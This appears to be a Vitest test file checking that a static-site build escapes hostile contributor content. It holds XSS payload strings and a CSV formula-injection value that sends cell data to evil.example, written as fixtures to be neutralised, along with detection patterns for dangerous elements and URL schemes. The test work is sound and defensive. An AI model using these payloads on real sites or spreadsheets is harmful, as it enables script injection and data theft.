import { cpSync, readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { CSV_NOTE } from '../../src/lib/datapackage.ts';
import { buildAtlas, listFiles, MINI, PROJECT, tempDir } from '../lib/atlas-fixtures.ts';
import { doc, htmlFiles } from '../lib/built-site.ts';

/**
 * The hostile-content corpus (tests/fixtures/hostile): text an outside contributor may legitimately
 * write — markup and code in inline code and fenced blocks, escaped entities, attribute values and
 * titles full of quotes and tags, a source whose publisher is a spreadsheet formula — builds, and
 * none of it reaches dist/ as markup, script, style or formula: all of it is escaped text.
 */
const HOSTILE = join(PROJECT, 'tests/fixtures/hostile/overlay');
let dist: string;
let files: string[];

beforeAll(() => {
  const root = tempDir('hostile');
  cpSync(MINI, root, { recursive: true });
  cpSync(HOSTILE, root, { recursive: true });
  dist = join(tempDir('hostile-dist'), 'dist');
  const r = buildAtlas(root, dist);
  expect(r.status, r.stderr).toBe(0);
  files = htmlFiles(dist);
});

describe('hostile content stays text', () => {
  it('no element has an event handler, a javascript: URL or a style; no frame, object or stray script', () => {
    const bad: string[] = [];
    for (const f of files) {
      const d = doc(dist, f);
      if (d.querySelector('style')) bad.push(`${f}: <style>`);
      for (const el of d.querySelectorAll('iframe, object, embed, frame, svg[onload], img[src="x"], base, meta[http-equiv="refresh"]')) bad.push(`${f}: <${el.localName}>`);
      for (const el of d.querySelectorAll('*')) {
        for (const { name, value } of Array.from(el.attributes)) {
          if (/^on/i.test(name) || name === 'style') bad.push(`${f}: <${el.localName} ${name}>`);
          // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers strip control characters before reading a URL's scheme
          if (/^(javascript|data|vbscript):/i.test(value.replace(/[\u0000-\u0020]/g, '')) && ['href', 'src', 'action', 'formaction'].includes(name))
            bad.push(`${f}: <${el.localName} ${name}="${value}">`);
        }
      }
      for (const s of d.querySelectorAll('script')) {
        const src = s.getAttribute('src');
        if (src === null && s.getAttribute('type') !== 'application/ld+json') bad.push(`${f}: inline <script>`);
        if (src !== null && !src.startsWith('/')) bad.push(`${f}: <script src="${src}">`);
        if (src === null) expect(() => JSON.parse(s.textContent ?? ''), `${f}: JSON-LD`).not.toThrow();
      }
      for (const form of d.querySelectorAll('form')) if (!(form.getAttribute('action') ?? '').startsWith('/')) bad.push(`${f}: <form action="${form.getAttribute('action')}">`);
    }
    expect(files.length).toBeGreaterThan(10);
    expect(bad, bad.slice(0, 30).join('\n')).toEqual([]);
  });

  it('shows the hostile text as text', () => {
    const en = doc(dist, 'en/index.html');
    expect(en.querySelector('h1')?.textContent).toContain("<b onmouseover=alert('title')>hostile-title</b>");
    const code = [...en.querySelectorAll('code')].map((c) => c.textContent);
    expect(code).toContain("<script>alert('inline-code')</script>");
    expect(code).toContain('{globalThis.process.env.HOME}');
    expect(code.some((c) => c?.includes("<script>alert('fenced')</script>"))).toBe(true);
    expect(en.querySelector('main')?.textContent).toContain("<script>alert('escaped')</script>");
    expect(en.querySelector('abbr')?.getAttribute('title')).toBe('"><script>alert("attribute")</script>');
    // Both <Stat> uses (one split over two lines) render their number; the one in inline code does not.
    expect(en.querySelectorAll('main a.stat').length).toBe(2);
    const id = doc(dist, 'index.html');
    expect(id.querySelector('h1')?.textContent).toContain(`"><svg onload=alert('judul')>`);
  });

  it('publishes nothing from the build machine (no home folder, no project path)', () => {
    const leaks: string[] = [];
    for (const f of listFiles(dist)) {
      const text = readFileSync(join(dist, f), 'latin1');
      if (text.includes(PROJECT)) leaks.push(`${f}: ${PROJECT}`);
      if (homedir().length > 1 && text.includes(`${homedir()}/`)) leaks.push(`${f}: ${homedir()}/`);
    }
    expect(leaks).toEqual([]);
  });

  it('neutralises formula-leading text in the CSV downloads and says so in the data package', () => {
    const rows = parseCsv(readFileSync(join(dist, 'files/sources.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    const hostile = rows.find((r) => r.id === 'hostile-2024')!;
    expect(hostile.publisher).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`);
    for (const r of rows) for (const [k, v] of Object.entries(r)) expect(/^[=+\-@\t\r]/.test(v) && !/^-?\d+(\.\d+)?$/.test(v), `${k}: ${v}`).toBe(false);
    const pkg = JSON.parse(readFileSync(join(dist, 'datapackage.json'), 'utf8')) as { description: string };
    expect(pkg.description).toContain(CSV_NOTE);
  });
});
